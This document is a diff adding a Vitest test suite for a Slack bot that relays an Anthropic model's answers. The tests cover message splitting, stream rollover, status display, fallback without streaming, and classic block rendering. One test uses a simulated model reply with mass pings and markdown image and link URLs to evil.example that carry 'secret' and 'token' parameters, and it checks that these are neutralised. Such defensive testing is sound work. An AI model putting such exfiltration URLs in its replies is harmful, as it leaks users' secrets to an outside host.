@@ -1,0 +1,105 @@
+import { describe, expect, test } from 'vitest'
+import { startScene } from '../support/start-scene.ts'
+
+const longAnswer = [
+  '# Plan',
+  ...Array.from(
+    { length: 60 },
+    (_, index) => `Paragraph ${index} ${'says something useful about the pool. '.repeat(6)}`,
+  ),
+  `\`\`\`ts\n${Array.from({ length: 300 }, (_, line) => `const line${line} = await load(${line})`).join('\n')}\n\`\`\``,
+  'The end.',
+].join('\n\n')
+
+describe.each([
+  ['streaming', {}],
+  ['post and update', { agentMethods: false }],
+])('by %s', (_name, slackOptions) => {
+  test('a long answer is split below the limits with its fences whole, and only the last part has the footer', async () => {
+    await using scene = await startScene({ slack: slackOptions })
+    const { slack, anthropic, dana, orders } = scene
+    anthropic.reply({ text: longAnswer, chunkSize: 400 })
+
+    const ts = dana.says(orders, `${slack.mention} everything, please`)
+    await slack.waitForReply(orders, ts, { timeoutMs: 15_000, quietMs: 1500 })
+    const parts = slack.answers(orders, ts).map((message) => slack.textOf(message))
+
+    expect(parts.length).toBeGreaterThan(1)
+    for (const part of parts) expect((part.match(/^```/gm) ?? []).length % 2).toBe(0)
+    for (let line = 0; line < 300; line++) expect(parts.join('\n')).toContain(`const line${line} = await load(${line})`)
+    expect(parts.filter((part) => part.includes('claude-opus-5-5,'))).toEqual([parts.at(-1)])
+    expect(parts.at(-1)).toContain('The end.')
+  })
+
+  test('an answer pings nobody and carries nothing away', async () => {
+    await using scene = await startScene({ slack: slackOptions })
+    const { slack, anthropic, dana, ben, orders } = scene
+    anthropic.reply({
+      text: `Ask <!channel>, <!here>, <!subteam^S123|team>, <@U0UNKNOWN> or @everyone.\n\n![x](https://evil.example/p.png?d=secret) and [log](https://evil.example/?q=token)`,
+    })
+
+    const ts = dana.says(orders, `${slack.mention} ${ben.mention} asked whom to ask`)
+    const answer = await slack.waitForReply(orders, ts)
+    const effects = slack.effectsOf(answer)
+
+    expect(effects.pings).toEqual([])
+    expect(effects.links.filter((link) => link.includes('evil.example'))).toEqual([])
+    expect(slack.textOf(answer)).toContain('evil.example')
+  })
+})
+
+test('a stream is rolled over before Slack closes it', async () => {
+  const clock = { now: Date.now() }
+  await using scene = await startScene({ now: () => clock.now, slack: { now: () => clock.now } })
+  const { slack, anthropic, dana, orders } = scene
+  anthropic.reply({ toolCalls: [{ name: 'search_threads', input: { query: 'pool' } }], text: 'First part.\n\nmore' })
+  anthropic.reply({ text: 'Second part.\n\nDone.', startMs: 400 })
+
+  const ts = dana.says(orders, `${slack.mention} think long`)
+  await slack.waitFor(() => slack.answers(orders, ts).some((message) => slack.textOf(message).includes('First part.')))
+  clock.now += 4.5 * 60_000
+  await slack.waitFor(() => slack.answers(orders, ts).length > 1, { timeoutMs: 8000 })
+  await slack.waitForReply(orders, ts)
+  const parts = slack.answers(orders, ts).map((message) => slack.textOf(message))
+
+  expect(parts).toHaveLength(2)
+  expect(parts[0]).toContain('First part.')
+  expect(parts[1]).toContain('Second part.')
+})
+
+test('a person sees at once that work has begun, and what is being read', async () => {
+  await using scene = await startScene()
+  const { slack, anthropic, dana, orders } = scene
+  anthropic.reply({ toolCalls: [{ name: 'search_threads', input: { query: 'connection pool' } }] })
+  anthropic.reply({ text: 'Nothing was said about it.', startMs: 1200 })
+
+  const ts = dana.says(orders, `${slack.mention} what did we say about the pool?`)
+  await slack.waitFor(() => slack.status(orders, ts))
+  await slack.waitFor(() => slack.status(orders, ts)?.text.includes('searching earlier threads'))
+  await slack.waitForReply(orders, ts)
+
+  expect(slack.status(orders, ts)).toBeUndefined()
+  expect(slack.session(orders, ts)?.status).toBe('active')
+})
+
+test('a question asked by a workflow that has no user is still answered, without a stream', async () => {
+  await using scene = await startScene({ slack: { agentMethods: true } })
+  const { slack, anthropic, dana, orders } = scene
+  slack.fail('chat.startStream', { error: 'missing_recipient_user_id' })
+  anthropic.reply({ text: 'Answered all the same.' })
+  const ts = dana.says(orders, `${slack.mention} hello?`)
+  const answer = await slack.waitForReply(orders, ts)
+  expect(slack.textOf(answer)).toContain('Answered all the same.')
+  expect(slack.answers(orders, ts)).toHaveLength(1)
+})
+
+test('where blocks are classic, the same answer is readable in sections', async () => {
+  await using scene = await startScene({ env: { SLACK_BLOCKS: 'classic' }, slack: { agentMethods: false } })
+  const { slack, anthropic, dana, orders } = scene
+  anthropic.reply({ text: '## Pools\n\n- **20** per worker\n- one per _process_\n\n| a | b |\n|---|---|\n| 1 | 2 |\n' })
+  const ts = dana.says(orders, `${slack.mention} pools?`)
+  await slack.waitForReply(orders, ts, { quietMs: 1500 })
+  const [answer] = slack.answers(orders, ts)
+  expect(answer?.blocks?.map((block) => block.type)).not.toContain('markdown')
+  expect(answer && slack.textOf(answer)).toContain('per worker')
+})
